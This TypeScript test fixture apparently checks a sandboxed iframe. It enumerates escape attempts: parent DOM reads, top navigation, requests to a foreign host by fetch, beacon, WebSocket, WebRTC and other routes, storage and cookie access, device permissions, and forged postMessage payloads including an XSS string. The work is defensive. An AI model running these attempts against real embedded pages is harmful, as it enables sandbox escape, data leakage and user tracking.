/** A hostile program's attempts: bodies of async functions that return a string when they succeed. */
export function hostileOperations(foreign: string, udpPort: number): Record<string, string> {
  const img = (path: string) => `${foreign}/${path}`;
  return {
    'parent DOM': `return parent.document.title`,
    'parent DOM by frameElement': `return frameElement && frameElement.ownerDocument.title`,
    'top document': `return top.document.body.innerHTML`,
    'parent variable': `return String(parent.harness)`,
    'parent location read': `return parent.location.href`,
    'parent name': `return parent.name + 'x'`,
    'parent function': `return parent.eval('1')`,
    'parent history': `parent.history.pushState({}, '', '/hacked'); return 'pushed'`,
    'top navigation': `top.location.href = '${img('top')}'`,
    'top navigation by replace': `top.location.replace('${img('top-replace')}')`,
    'top navigation by javascript URL': `top.location = 'javascript:document.title="hacked"'`,
    'top link': `click('<a href="${img('top-link')}" target="_top">x</a>')`,
    'blank link': `click('<a href="${img('blank-link')}" target="_blank">x</a>')`,
    'form to top': `submit('<form action="${img('form-top')}" method="post" target="_top"><input name="a" value="1"></form>')`,
    'form here': `submit('<form action="${img('form-self')}" method="get"></form>')`,
    'parent hash': `parent.location.hash = '#hacked'`,
    'top.close': `top.close()`,
    'window.open': `const w = open('${img('open')}'); return w && 'opened'`,
    'open a data URL': `const w = open('data:text/html,hi'); return w && 'opened'`,
    alert: `const r = alert('hacked'); return r`,
    // The frame answers it with a note; the test would see a real dialog.
    confirm: `confirm('hacked')`,
    prompt: `return prompt('hacked') || undefined`,
    print: `print()`,
    localStorage: `localStorage.setItem('a', '1'); return localStorage.getItem('a')`,
    sessionStorage: `sessionStorage.setItem('a', '1'); return 'stored'`,
    'cookies read and write': `document.cookie = 'a=1'; return document.cookie`,
    indexedDB: `indexedDB.open('a'); await wait(); return 'opened'`,
    caches: `await caches.open('a'); return 'opened'`,
    'service worker': `await navigator.serviceWorker.register('frame.js'); return 'registered'`,
    fetch: `await fetch('${img('fetch')}'); return 'sent'`,
    'fetch without cors': `await fetch('${img('fetch-no-cors')}', { mode: 'no-cors' }); return 'sent'`,
    'fetch of the site': `return await (await fetch('../harness.html')).text()`,
    XMLHttpRequest: `const x = new XMLHttpRequest(); x.open('GET', '${img('xhr')}'); x.send(); await wait()`,
    beacon: `navigator.sendBeacon('${img('beacon')}', 'x'); await wait()`,
    WebSocket: `new WebSocket('${foreign.replace('http', 'ws')}/socket'); await wait()`,
    EventSource: `new EventSource('${img('events')}'); await wait()`,
    WebTransport: `new WebTransport('https://127.0.0.1:1/'); return 'made'`,
    WebRTC: `const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${udpPort}' }] }); c.createDataChannel('x'); await c.setLocalDescription(await c.createOffer()); await wait(); return 'made'`,
    'WebRTC by a blank frame': `const f = add('<iframe></iframe>'); return String(f.contentWindow.RTCPeerConnection)`,
    'WebRTC by a srcdoc frame': `add('<iframe sandbox="allow-scripts" srcdoc="&lt;script&gt;const c=new RTCPeerConnection({iceServers:[{urls:&quot;stun:127.0.0.1:${udpPort}&quot;}]});c.createDataChannel(1);c.createOffer().then(o=>c.setLocalDescription(o))&lt;/script&gt;"></iframe>'); await wait()`,
    image: `new Image().src = '${img('image')}'; await wait()`,
    'image of a style': `add('<div style="width:9px;height:9px;background:url(${img('background')})"></div>'); await wait()`,
    'style import': `add('<style>@import "${img('import.css')}";</style>'); await wait()`,
    'style sheet': `add('<link rel="stylesheet" href="${img('sheet.css')}">'); await wait()`,
    font: `const f = new FontFace('f', 'url(${img('font')})'); await f.load(); return 'loaded'`,
    'script tag': `const s = document.createElement('script'); s.src = '${img('script.js')}'; document.head.append(s); await wait()`,
    'dynamic import': `await (0, eval)("import('${img('module.js')}')"); return 'loaded'`,
    worker: `new Worker(URL.createObjectURL(new Blob(['fetch("${img('worker')}")']))); await wait()`,
    'shared worker': `new SharedWorker('${img('shared-worker')}'); await wait()`,
    'foreign frame': `add('<iframe src="${img('frame')}"></iframe>'); await wait()`,
    'data frame': `add('<iframe src="data:text/html,<script>fetch(\\'${img('data-frame')}\\')</script>"></iframe>'); await wait()`,
    'object and embed': `add('<object data="${img('object')}"></object>'); add('<embed src="${img('embed')}">'); await wait()`,
    'video and track': `add('<video src="${img('video')}" poster="${img('poster')}"></video>'); await wait()`,
    prefetch: `for (const rel of ['prefetch', 'preload', 'modulepreload', 'prerender', 'icon', 'manifest']) document.head.append(Object.assign(document.createElement('link'), { rel, href: '${img('link')}/' + rel, as: 'script' })); await wait()`,
    preconnect: `for (const rel of ['preconnect', 'dns-prefetch']) document.head.append(Object.assign(document.createElement('link'), { rel, href: '${foreign}' })); await wait()`,
    'speculation rules': `const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: ['${img('speculation')}'] }] }); document.head.append(s); await wait()`,
    ping: `click('<a href="#" ping="${img('ping')}">x</a>'); await wait()`,
    'meta refresh': `document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: '0;url=${img('refresh')}' })); await wait()`,
    'base URL': `document.head.append(Object.assign(document.createElement('base'), { href: '${foreign}/' })); new Image().src = 'based.png'; await wait()`,
    'svg and markup': `add('<svg><image href="${img('svg')}"/><use href="${img('use')}#a"/></svg><input type="image" src="${img('input')}">'); await wait()`,
    clipboard: `await navigator.clipboard.writeText('hacked'); return 'written'`,
    geolocation: `return await new Promise((yes) => navigator.geolocation.getCurrentPosition(() => yes('found'), () => yes()))`,
    camera: `await navigator.mediaDevices.getUserMedia({ video: true }); return 'filmed'`,
    notification: `return (await Notification.requestPermission()) === 'granted' && 'granted'`,
    fullscreen: `await document.documentElement.requestFullscreen(); return 'full'`,
    'pointer lock': `document.body.requestPointerLock(); await wait(); return document.pointerLockElement && 'locked'`,
    'false messages': `for (const m of [{ t: 'ran', run: 1, token: 'x' }, { t: 'log', text: '<img src=x onerror=alert(1)>' }, null, 5, 'x', { t: '__proto__' }, { t: 'height', height: 1e9 }]) parent.postMessage(m, '*')`,
    'broadcast channel': `new BroadcastChannel('x').postMessage('x')`,
  };
}

/** A program that tries one of them and logs `TRIED`, after `GOT` when it succeeded. */
export function hostileProgram(operation: string): string {
  return `
const wait = () => new Promise((done) => setTimeout(done, 80));
const add = (html) => { const box = document.createElement('div'); box.innerHTML = html; document.body.append(box); return box.firstElementChild; };
const click = (html) => add(html).click();
const submit = (html) => add(html).submit();
const operation = async () => { ${operation} };
setTimeout(async () => {
  try {
    const got = await Promise.race([operation(), new Promise((done) => setTimeout(done, 1500))]);
    if (got !== undefined && got !== null && got !== false) console.warn('GOT ' + String(got).slice(0, 80));
  } catch {}
  console.info('TRIED');
}, 0);
export default () => <p>harmless</p>;`;
}
